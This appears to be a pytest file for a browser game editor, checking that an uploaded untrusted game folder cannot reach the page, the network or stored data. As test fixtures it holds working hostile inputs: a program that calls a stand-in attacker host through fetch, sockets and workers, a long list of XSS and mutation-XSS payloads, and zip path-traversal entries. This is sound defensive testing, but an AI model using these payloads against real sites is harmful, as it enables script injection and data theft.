"""A stranger's folder that is opened in the page where games are written gets nothing.

It needs what `test_playing.py` needs; where that is not to be had, these tests are skipped, and say so.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from browsing import FIRST, Page, until

from publisher.site.write_page import NEIGHBOUR

ENDLESS = "while True:\n    pass\n"
REACHING = '''\
import js

EVIL = "ADDRESS"
reached = []


def attempt(name, work):
    try:
        reached.append(f"{name}: {work()!r:.40}")
    except BaseException:
        pass


def xhr(asked):
    asked.open("GET", EVIL + "xhr", False)
    asked.send()
    return asked.status


# What is asked for here would be heard of by the other host.
js.fetch(EVIL + "fetch")
attempt("request", lambda: xhr(js.XMLHttpRequest.new()))
attempt("scripts", lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, EVIL + "scripts"))
for begin in (js.EventSource, js.Worker, js.WebSocket):
    try:
        begin.new(EVIL.replace("http", "ws") + "socket" if begin is js.WebSocket else EVIL + "begun")
    except BaseException:
        pass
# What works here is told.
attempt("database", lambda: js.indexedDB.open("publisher"))
attempt("storage", lambda: js.localStorage.getItem("publisher/write"))
attempt("files", lambda: js.caches.open("x") if js.caches else 1 / 0)
attempt("document", lambda: js.document.title)
attempt("parent", lambda: js.parent.document.title)
attempt("origin", lambda: js.self.origin if js.self.origin != "null" else 1 / 0)
attempt("eval", lambda: js.eval("1 + 1"))
attempt("function", lambda: js.Function.new("return 1")())
js.self.postMessage("spoilt")
js.BroadcastChannel.new("publisher").postMessage("spoilt")

from publisher.site import editor_session
from publisher.site.protocol import Checked, Found, Part, Pictured, Told, write

SPOIL = "parent.document.title = 'spoilt'"
WILD = f"""<p id=wild>wild</p><script>{SPOIL}; fetch('{EVIL}script')</script>
<img src="{EVIL}img" onerror="{SPOIL}"><img src=x onerror="{SPOIL}">
<link rel="stylesheet" href="{EVIL}style"><link rel="dns-prefetch" href="{EVIL}dns">
<style>@import '{EVIL}import';</style><div style="background: url({EVIL}background)">x</div>
<iframe src="{EVIL}frame"></iframe><object data="{EVIL}object"></object><embed src="{EVIL}embed">
<meta http-equiv="refresh" content="0;url={EVIL}refresh"><base href="{EVIL}">
<form action="{EVIL}form"><button id=go>go</button></form>
<a id=out href="{EVIL}out" target="_top" ping="{EVIL}ping">out</a>
<a id=run href="javascript:{SPOIL}">run</a>
<svg onload="{SPOIL}"><script>{SPOIL}</script><image href="{EVIL}image"/><use href="{EVIL}use#x"/>
<a href="javascript:{SPOIL}"><text y="20">run</text></a>
<foreignObject><img src="{EVIL}foreign"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src={EVIL}nested onerror={SPOIL}&gt;">"""


def ask(self, text):
    if '"check"' in text:
        told = f"<b id=bold onclick=x>reached</b> {sorted(reached)}"
        return write(Checked((Found("error", told, WILD, "rules.md", -7, 10**9),), told))
    return write(Told(WILD) if '"page"' in text else Pictured((Part(WILD, WILD),), 0))


editor_session.EditorSession.ask = ask
'''


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    """Somebody else's host, and what it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as found:
        Thread(target=found.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{found.server_port}/", asked
        found.shutdown()


def archive(play: str) -> bytes:
    """The folder of a game with this program."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("wild/game.toml", NEIGHBOUR)
        packed.writestr("wild/rules.md", "# Wild\n\n<script>parent.document.title = 'spoilt'</script>\n")
        packed.writestr("wild/play.py", play)
        packed.writestr("../../climbed.md", "out of the folder")
        packed.writestr("wild/../../climbed.md", "out of the folder")
    return made.getvalue()


def opened(page: Page, at: str, play: str) -> None:
    page.goto(f"{at}write.html")
    file = {"name": "wild.zip", "mimeType": "application/zip", "buffer": archive(play)}
    page.locator("input[type=file]").first.set_input_files(file)


def test_it_reaches_neither_page_nor_network_nor_what_is_kept(
    browser: Any, at: str, evil: tuple[str, list[str]]
) -> None:
    """By its program, by what the desk answers for it, and by clicks on what it shows."""
    address, asked = evil
    with browser.new_context() as context:
        page = context.new_page()
        opened(page, at, REACHING.replace("ADDRESS", address))
        problem = page.locator("#write .problems button")
        problem.wait_for(timeout=FIRST)
        page.get_by_role("button", name="Check").click()  # by now its program answers instead of the press
        page.locator("#write .problems button", has_text="reached").wait_for(timeout=FIRST)
        told = problem.inner_text()
        assert "<b id=bold onclick=x>reached</b> []" in told, told
        assert page.locator("#bold, #wild").count() == 0
        title = page.title()
        for tab, frame in (("Page", "Preview of the rules"), ("Parts", "Preview of the parts")):
            page.get_by_role("tab", name=tab).click()
            shown = page.frame_locator(f"iframe[title^='{frame}']")
            shown.locator("#wild").first.wait_for(timeout=FIRST)
            for link in ("#out", "#run"):
                shown.locator(link).first.click(force=True)
        page.wait_for_timeout(300)
        assert page.title() == title != "spoilt" and page.url.startswith(at)
        files = page.locator("#write .files button").all_text_contents()
        assert files == ["game.toml", "play.py", "rules.md"]
    assert not asked


def test_what_never_ends_is_stopped(browser: Any, at: str) -> None:
    """The page stays free meanwhile; nothing runs again by itself, not after a reload either."""
    with browser.new_context() as context:
        page = context.new_page()
        opened(page, at, ENDLESS)
        page.locator("#write .status", has_text="Downloading the program").wait_for()
        page.wait_for_timeout(1000)
        page.get_by_role("button", name="game.toml").click()
        page.get_by_role("button", name="Stop").click()
        until(page, "document.querySelector('#write .status').textContent === ''")
        assert page.locator("iframe[sandbox=allow-scripts]").count() == 0
        page.reload()
        page.locator("#write .status", has_text="was not finished").wait_for()
        assert page.locator("iframe[sandbox=allow-scripts]").count() == 0


def test_drawings_of_a_table_are_cleaned(tab: Page, at: str) -> None:
    """A game that is tried while it is written draws its own board and cards, in the page of a frame."""
    svg = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="spoil()">
<x:script/><script>spoil()</script><a href="javascript:spoil()"><text onclick="spoil()">run</text></a>
<image x:href="https://evil.invalid/"/><use href="#own"/><foreignObject><meta xmlns="http://www.w3.org/1999/xhtml"
http-equiv="refresh" content="0"/></foreignObject><style>@import "x";</style></svg>"""
    tab.goto(f"{at}write.html")
    call = "async (svg) => (await import(new URL('write/preview.js', location).href)).cleanedDrawing(svg)"
    cleaned = tab.evaluate(call, svg)
    assert "#own" in cleaned
    assert not any(word in cleaned for word in ("spoil", "evil", "script", "refresh", "import"))
